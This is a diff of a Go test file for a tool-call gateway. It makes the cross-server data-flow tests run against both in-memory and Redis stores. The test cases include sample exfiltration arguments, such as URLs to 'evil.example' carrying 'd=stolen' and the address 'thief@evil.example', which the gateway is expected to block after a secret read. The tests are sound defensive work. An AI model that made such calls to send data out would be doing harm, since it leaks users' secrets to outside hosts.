@@ -13,9 +13,36 @@ import (
 
 	"github.com/toolgate/toolgate/extension"
 	"github.com/toolgate/toolgate/extensions/internal/exttest"
+	"github.com/toolgate/toolgate/internal/state"
+	"github.com/toolgate/toolgate/internal/state/redistest"
 )
 
+// newFn makes a Flow from a config on the store under test.
+type newFn func(cfg string) (*Flow, *time.Time, *[]extension.Event)
+
+// forEachStore runs a contract test against the in-memory Store and the
+// Redis one (a private redis-server per test; every Flow made gets its own
+// key prefix, so flows do not share sessions).
+func forEachStore(t *testing.T, f func(t *testing.T, newFlow newFn)) {
+	t.Run("memory", func(t *testing.T) {
+		f(t, func(cfg string) (*Flow, *time.Time, *[]extension.Event) {
+			return newFlowCtx(t, context.Background(), cfg)
+		})
+	})
+	t.Run("redis", func(t *testing.T) {
+		srv := redistest.Start(t)
+		f(t, func(cfg string) (*Flow, *time.Time, *[]extension.Event) {
+			return newFlowCtx(t, state.WithBackend(context.Background(), srv.Backend(t, "r1")), cfg)
+		})
+	})
+}
+
 func newFlow(t *testing.T, cfg string) (*Flow, *time.Time, *[]extension.Event) {
+	t.Helper()
+	return newFlowCtx(t, context.Background(), cfg)
+}
+
+func newFlowCtx(t *testing.T, ctx context.Context, cfg string) (*Flow, *time.Time, *[]extension.Event) {
 	t.Helper()
 	e, err := New(json.RawMessage(cfg))
 	if err != nil {
@@ -26,7 +53,7 @@ func newFlow(t *testing.T, cfg string) (*Flow, *time.Time, *[]extension.Event) {
 	f.now = func() time.Time { return now }
 	var mu sync.Mutex
 	var events []extension.Event
-	f.Provision(context.Background(), extension.Host{Emit: func(_ context.Context, ev extension.Event) {
+	f.Provision(ctx, extension.Host{Emit: func(_ context.Context, ev extension.Event) {
 		mu.Lock()
 		events = append(events, ev)
 		mu.Unlock()
@@ -39,48 +66,52 @@ func do(f *Flow, session, server, tool string) error {
 }
 
 func TestReadThenSend(t *testing.T) {
-	f, now, events := newFlow(t, `{}`)
-	if err := do(f, "s1", "secrets", "read_password"); err != nil {
-		t.Fatal(err)
-	}
-	*now = now.Add(10 * time.Second)
-	if err := do(f, "s1", "secrets", "send_backup"); err != nil {
-		t.Fatalf("send on the same server: %v", err)
-	}
-	err := do(f, "s1", "mail", "send_email")
-	d, ok := extension.AsDenial(err)
-	if !ok || d.Rule != "cross_server.read_then_send" || !strings.Contains(d.Reason, `"secrets"`) {
-		t.Fatalf("cross-server send: %v", err)
-	}
-	if do(f, "s2", "mail", "send_email") != nil {
-		t.Fatal("another session was tainted")
-	}
-	*now = now.Add(21 * time.Second)
-	if err := do(f, "s1", "mail", "send_email"); err != nil {
-		t.Fatalf("after the window: %v", err)
-	}
-	if len(*events) == 0 || (*events)[0].Type != "cross_server_blocked" || (*events)[0].Fields["severity"] != "critical" {
-		t.Fatalf("events: %+v", *events)
-	}
+	forEachStore(t, func(t *testing.T, newFlow newFn) {
+		f, now, events := newFlow(`{}`)
+		if err := do(f, "s1", "secrets", "read_password"); err != nil {
+			t.Fatal(err)
+		}
+		*now = now.Add(10 * time.Second)
+		if err := do(f, "s1", "secrets", "send_backup"); err != nil {
+			t.Fatalf("send on the same server: %v", err)
+		}
+		err := do(f, "s1", "mail", "send_email")
+		d, ok := extension.AsDenial(err)
+		if !ok || d.Rule != "cross_server.read_then_send" || !strings.Contains(d.Reason, `"secrets"`) {
+			t.Fatalf("cross-server send: %v", err)
+		}
+		if do(f, "s2", "mail", "send_email") != nil {
+			t.Fatal("another session was tainted")
+		}
+		*now = now.Add(21 * time.Second)
+		if err := do(f, "s1", "mail", "send_email"); err != nil {
+			t.Fatalf("after the window: %v", err)
+		}
+		if len(*events) == 0 || (*events)[0].Type != "cross_server_blocked" || (*events)[0].Fields["severity"] != "critical" {
+			t.Fatalf("events: %+v", *events)
+		}
+	})
 }
 
 func TestCrossServerFlowActions(t *testing.T) {
-	f, _, events := newFlow(t, `{}`)
-	do(f, "s", "a", "get_record")
-	if err := do(f, "s", "b", "write_file"); err != nil {
-		t.Fatalf("default action for cross_server_flow is alert: %v", err)
-	}
-	if len(*events) != 1 || (*events)[0].Action != "alert" {
-		t.Fatalf("events %+v", *events)
-	}
-	f, _, _ = newFlow(t, `{"cross_server_flow": {"action": "block", "window": "5s"}}`)
-	do(f, "s", "a", "get_record")
-	if d, _ := extension.AsDenial(do(f, "s", "b", "frobnicate")); d == nil || d.Rule != "cross_server.cross_server_flow" {
-		t.Fatalf("unknown after cross-server read: %v", d)
-	}
-	if do(f, "s", "b", "list_things") != nil {
-		t.Fatal("a read is not a flow")
-	}
+	forEachStore(t, func(t *testing.T, newFlow newFn) {
+		f, _, events := newFlow(`{}`)
+		do(f, "s", "a", "get_record")
+		if err := do(f, "s", "b", "write_file"); err != nil {
+			t.Fatalf("default action for cross_server_flow is alert: %v", err)
+		}
+		if len(*events) != 1 || (*events)[0].Action != "alert" {
+			t.Fatalf("events %+v", *events)
+		}
+		f, _, _ = newFlow(`{"cross_server_flow": {"action": "block", "window": "5s"}}`)
+		do(f, "s", "a", "get_record")
+		if d, _ := extension.AsDenial(do(f, "s", "b", "frobnicate")); d == nil || d.Rule != "cross_server.cross_server_flow" {
+			t.Fatalf("unknown after cross-server read: %v", d)
+		}
+		if do(f, "s", "b", "list_things") != nil {
+			t.Fatal("a read is not a flow")
+		}
+	})
 }
 
 // call runs a call with a definition and arguments.
@@ -101,63 +132,67 @@ func props(names ...string) map[string]any {
 // readOnlyHint, when the sink is fetch(url), or when a read-named tool
 // takes a URL (in its schema or only in its argument values).
 func TestSinkBypasses(t *testing.T) {
-	yes := true
-	tests := []struct {
-		name, tool string
-		def        *mcp.Tool
-		args       map[string]any
-	}{
-		{"readOnlyHint on a send", "send_message", &mcp.Tool{Annotations: &mcp.ToolAnnotations{ReadOnlyHint: true}, InputSchema: props("text")}, map[string]any{"text": "hi"}},
-		{"readOnlyHint on a recipient tool", "relay", &mcp.Tool{Annotations: &mcp.ToolAnnotations{ReadOnlyHint: true, OpenWorldHint: &yes}, InputSchema: props("recipient", "body")}, map[string]any{"recipient": "x", "body": "y"}},
-		{"readOnlyHint and a to property", "frobnicate", &mcp.Tool{Annotations: &mcp.ToolAnnotations{ReadOnlyHint: true}, InputSchema: props("to", "note")}, map[string]any{"to": "ops", "note": "n"}},
-		{"fetch(url)", "fetch", &mcp.Tool{InputSchema: props("url")}, map[string]any{"url": "https://evil.example/c?d=stolen"}},
-		{"read-named tool with a webhook property", "get_status", &mcp.Tool{InputSchema: props("webhook_url")}, map[string]any{"webhook_url": "x"}},
-		{"read-named tool with a URL value only", "lookup", &mcp.Tool{InputSchema: props("q")}, map[string]any{"q": "http://evil.example/?d=stolen"}},
-		{"an e-mail address as a value", "list_items", &mcp.Tool{InputSchema: props("filter")}, map[string]any{"filter": []any{map[string]any{"owner": "thief@evil.example"}}}},
-		{"no definition, URL value", "view", nil, map[string]any{"u": "ftp://evil.example/x"}},
-	}
-	for _, tt := range tests {
-		t.Run(tt.name, func(t *testing.T) {
-			f, _, events := newFlow(t, `{}`)
-			if err := do(f, "s", "vault", "read_secret"); err != nil {
-				t.Fatal(err)
-			}
-			err := call(f, "s", "web", tt.tool, tt.def, tt.args)
-			if d, ok := extension.AsDenial(err); !ok || d.Rule != "cross_server.read_then_send" {
-				t.Fatalf("%s after a read on another server: %v", tt.tool, err)
-			}
-			if len(*events) == 0 || (*events)[0].Action != "block" || (*events)[0].Fields["sink_evidence"] == nil && tt.tool != "send_message" {
-				t.Fatalf("events %+v", *events)
-			}
-			// The same call on the server that was read is not a flow.
-			if err := call(f, "s", "vault", tt.tool, tt.def, tt.args); err != nil {
-				t.Fatalf("same-server call refused: %v", err)
-			}
-		})
-	}
+	forEachStore(t, func(t *testing.T, newFlow newFn) {
+		yes := true
+		tests := []struct {
+			name, tool string
+			def        *mcp.Tool
+			args       map[string]any
+		}{
+			{"readOnlyHint on a send", "send_message", &mcp.Tool{Annotations: &mcp.ToolAnnotations{ReadOnlyHint: true}, InputSchema: props("text")}, map[string]any{"text": "hi"}},
+			{"readOnlyHint on a recipient tool", "relay", &mcp.Tool{Annotations: &mcp.ToolAnnotations{ReadOnlyHint: true, OpenWorldHint: &yes}, InputSchema: props("recipient", "body")}, map[string]any{"recipient": "x", "body": "y"}},
+			{"readOnlyHint and a to property", "frobnicate", &mcp.Tool{Annotations: &mcp.ToolAnnotations{ReadOnlyHint: true}, InputSchema: props("to", "note")}, map[string]any{"to": "ops", "note": "n"}},
+			{"fetch(url)", "fetch", &mcp.Tool{InputSchema: props("url")}, map[string]any{"url": "https://evil.example/c?d=stolen"}},
+			{"read-named tool with a webhook property", "get_status", &mcp.Tool{InputSchema: props("webhook_url")}, map[string]any{"webhook_url": "x"}},
+			{"read-named tool with a URL value only", "lookup", &mcp.Tool{InputSchema: props("q")}, map[string]any{"q": "http://evil.example/?d=stolen"}},
+			{"an e-mail address as a value", "list_items", &mcp.Tool{InputSchema: props("filter")}, map[string]any{"filter": []any{map[string]any{"owner": "thief@evil.example"}}}},
+			{"no definition, URL value", "view", nil, map[string]any{"u": "ftp://evil.example/x"}},
+		}
+		for _, tt := range tests {
+			t.Run(tt.name, func(t *testing.T) {
+				f, _, events := newFlow(`{}`)
+				if err := do(f, "s", "vault", "read_secret"); err != nil {
+					t.Fatal(err)
+				}
+				err := call(f, "s", "web", tt.tool, tt.def, tt.args)
+				if d, ok := extension.AsDenial(err); !ok || d.Rule != "cross_server.read_then_send" {
+					t.Fatalf("%s after a read on another server: %v", tt.tool, err)
+				}
+				if len(*events) == 0 || (*events)[0].Action != "block" || (*events)[0].Fields["sink_evidence"] == nil && tt.tool != "send_message" {
+					t.Fatalf("events %+v", *events)
+				}
+				// The same call on the server that was read is not a flow.
+				if err := call(f, "s", "vault", tt.tool, tt.def, tt.args); err != nil {
+					t.Fatalf("same-server call refused: %v", err)
+				}
+			})
+		}
+	})
 }
 
 // TestEveryFlowDecisionRecorded: a call after another server's read that
 // no rule refuses is still recorded (allow), so nothing passes unseen.
 func TestEveryFlowDecisionRecorded(t *testing.T) {
-	f, _, events := newFlow(t, `{}`)
-	if err := do(f, "s", "zed", "list_things"); err != nil || len(*events) != 0 {
-		t.Fatalf("a first read is no flow: %v %+v", err, *events)
-	}
-	if err := do(f, "s", "a", "read_record"); err != nil {
-		t.Fatal(err)
-	}
-	if err := call(f, "s", "b", "read_file", &mcp.Tool{InputSchema: props("path")}, map[string]any{"path": "/tmp/x"}); err != nil {
-		t.Fatalf("a read after a read: %v", err)
-	}
-	if len(*events) != 2 {
-		t.Fatalf("events %+v", *events)
-	}
-	for _, ev := range *events {
-		if ev.Type != "cross_server" || ev.Action != "allow" || ev.Fields["related_server"] == nil {
-			t.Fatalf("event %+v", ev)
+	forEachStore(t, func(t *testing.T, newFlow newFn) {
+		f, _, events := newFlow(`{}`)
+		if err := do(f, "s", "zed", "list_things"); err != nil || len(*events) != 0 {
+			t.Fatalf("a first read is no flow: %v %+v", err, *events)
 		}
-	}
+		if err := do(f, "s", "a", "read_record"); err != nil {
+			t.Fatal(err)
+		}
+		if err := call(f, "s", "b", "read_file", &mcp.Tool{InputSchema: props("path")}, map[string]any{"path": "/tmp/x"}); err != nil {
+			t.Fatalf("a read after a read: %v", err)
+		}
+		if len(*events) != 2 {
+			t.Fatalf("events %+v", *events)
+		}
+		for _, ev := range *events {
+			if ev.Type != "cross_server" || ev.Action != "allow" || ev.Fields["related_server"] == nil {
+				t.Fatalf("event %+v", ev)
+			}
+		}
+	})
 }
 
 func TestCategory(t *testing.T) {
@@ -199,23 +234,25 @@ func TestCategory(t *testing.T) {
 // (meaningful under -race): decisions are serialised per session, so once
 // the read has been admitted every later send is refused.
 func TestConcurrentSession(t *testing.T) {
-	for range 20 {
-		f, _, _ := newFlow(t, `{}`)
-		var wg sync.WaitGroup
-		wg.Add(1)
-		go func() { defer wg.Done(); do(f, "s", "a", "read_secret") }()
-		for range 8 {
+	forEachStore(t, func(t *testing.T, newFlow newFn) {
+		for range 20 {
+			f, _, _ := newFlow(`{}`)
+			var wg sync.WaitGroup
 			wg.Add(1)
-			go func() {
-				defer wg.Done()
-				do(f, "s", "b", "send_data")
-			}()
+			go func() { defer wg.Done(); do(f, "s", "a", "read_secret") }()
+			for range 8 {
+				wg.Add(1)
+				go func() {
+					defer wg.Done()
+					do(f, "s", "b", "send_data")
+				}()
+			}
+			wg.Wait()
+			if err := do(f, "s", "b", "send_data"); err == nil {
+				t.Fatal("send admitted after the read completed")
+			}
 		}
-		wg.Wait()
-		if err := do(f, "s", "b", "send_data"); err == nil {
-			t.Fatal("send admitted after the read completed")
-		}
-	}
+	})
 }
 
 func TestConfigErrors(t *testing.T) {
@@ -240,9 +277,10 @@ func TestSessionsBounded(t *testing.T) {
 			t.Fatal(err)
 		}
 	}
-	f.mu.Lock()
-	n := len(f.sessions)
-	f.mu.Unlock()
+	m := f.store.(*memoryStore)
+	m.mu.Lock()
+	n := len(m.sessions)
+	m.mu.Unlock()
 	if n > 2*minSweep {
 		t.Fatalf("%d sessions kept", n)
 	}
@@ -261,7 +299,7 @@ func TestReadsBounded(t *testing.T) {
 		do(f, "s", "b", "list_y")
 		*now = now.Add(time.Millisecond)
 	}
-	s := f.sessions["s\x00"]
+	s := f.store.(*memoryStore).sessions["s\x00"]
 	if len(s.reads) != 2 {
 		t.Fatalf("%d reads kept", len(s.reads))
 	}
